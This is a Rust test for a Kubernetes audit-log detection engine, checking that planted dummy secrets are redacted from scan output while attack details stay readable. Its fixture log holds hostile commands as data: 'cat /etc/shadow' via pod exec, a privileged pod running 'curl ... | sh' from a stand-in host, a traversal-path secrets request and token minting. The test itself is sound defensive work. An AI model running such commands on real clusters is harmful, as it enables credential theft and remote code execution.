//! Invariant 3, end to end: no planted secret is found in anything that comes out, while what an
//! analyst needs stays readable. (Each place by itself is tested in `ingest`.)

use crate::support::{facts, log, rules};
use serde_json::json;
use std::{fmt::Write as _, sync::Arc};
use trailhound_detect::{Engine, Settings};

const JWT: &str =
    "eyJhbGciOiJSUzI1NiIsImtpZCI6IngifQ.eyJzdWIiOiJwbGFudGVkLXNlY3JldCJ9.c2lnbmF0dXJlLXBsYW50ZWQ";

/// Secrets that must never come out, in the places where audit logs carry them.
const PLANTED: &[&str] = &[
    JWT,
    "plantedpassword1",
    "plantedpassword2",
    "plantedpassword3",
    "cGxhbnRlZHBhc3N3b3JkNA==",
    "plantedpassword5",
    "plantedpassword6",
    "plantedpassword7",
];

fn hostile_log() -> String {
    let who = json!({"username": "mallory"});
    log(&[
        json!({"user": who, "verb": "create", "level": "RequestResponse", "requestURI": format!("/api/v1/namespaces/kube-system/pods/p/exec?command=sh&command=-c&command=cat+%2Fetc%2Fshadow+--password+plantedpassword1&token={JWT}"), "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "kube-system", "name": "p", "apiVersion": "v1"}, "sourceIPs": ["10.0.0.9"], "userAgent": "curl/8", "responseStatus": {"code": 101}}),
        json!({"user": who, "verb": "create", "level": "RequestResponse", "requestURI": "/api/v1/namespaces/kube-system/pods", "objectRef": {"resource": "pods", "namespace": "kube-system", "apiVersion": "v1"}, "sourceIPs": ["10.0.0.9"], "userAgent": "curl/8", "responseStatus": {"code": 201}, "requestObject": {"kind": "Pod", "metadata": {"name": "q", "namespace": "kube-system", "annotations": {"kubectl.kubernetes.io/last-applied-configuration": "{\"kind\":\"Secret\",\"data\":{\"k\":\"cGxhbnRlZHBhc3N3b3JkNA==\"}}"}}, "spec": {"hostPID": true, "containers": [{"name": "m", "image": "alpine", "command": ["sh", "-c", "curl http://u:plantedpassword2@h/x | sh"], "env": [{"name": "DB_PASSWORD", "value": "plantedpassword3"}], "securityContext": {"privileged": true}}]}}}),
        json!({"user": who, "verb": "create", "level": "RequestResponse", "requestURI": "/api/v1/namespaces/kube-system/serviceaccounts/x/token", "objectRef": {"resource": "serviceaccounts", "subresource": "token", "namespace": "kube-system", "name": "x", "apiVersion": "v1"}, "sourceIPs": ["10.0.0.9"], "userAgent": "curl/8", "responseStatus": {"code": 201}, "responseObject": {"kind": "TokenRequest", "status": {"token": "plantedpassword5"}}}),
        json!({"user": who, "verb": "list", "level": "RequestResponse", "requestURI": "/api/v1/namespaces/..%2f/secrets", "objectRef": {"resource": "secrets", "namespace": "kube-system", "apiVersion": "v1"}, "sourceIPs": ["10.0.0.9"], "userAgent": format!("kube-hunter {JWT}"), "responseStatus": {"code": 403, "message": format!("no: Authorization: Bearer {JWT}")}, "responseObject": {"kind": "SecretList", "items": [{"metadata": {"name": "db"}, "data": {"k": "plantedpassword6"}, "stringData": {"j": "plantedpassword7"}}]}}),
    ])
}

#[test]
fn no_planted_secret_comes_out_of_a_scan() {
    let rules = rules();
    let mut engine = Engine::new(Arc::clone(&rules), Settings::default());
    let mut seen = String::new();
    for (fact, key) in facts(&rules, &hostile_log()) {
        let _ = write!(seen, "{fact:?}");
        engine.push(fact, key);
    }
    seen.push_str(&String::from_utf8_lossy(&engine.save().unwrap()));
    engine.flush();
    seen.push_str(&String::from_utf8_lossy(&engine.save().unwrap()));
    let outcome = engine.outcome();
    assert!(outcome.findings.len() >= 4, "the planted events must be told to be worth searching");
    let _ = write!(seen, "{outcome:?}");
    for secret in PLANTED {
        assert!(!seen.contains(secret), "{secret} came out");
    }
    for needed in
        ["cat /etc/shadow", "--password", "DB_PASSWORD", "mallory", "hostPID", "kube-hunter"]
    {
        assert!(seen.contains(needed), "{needed} must remain readable");
    }
}
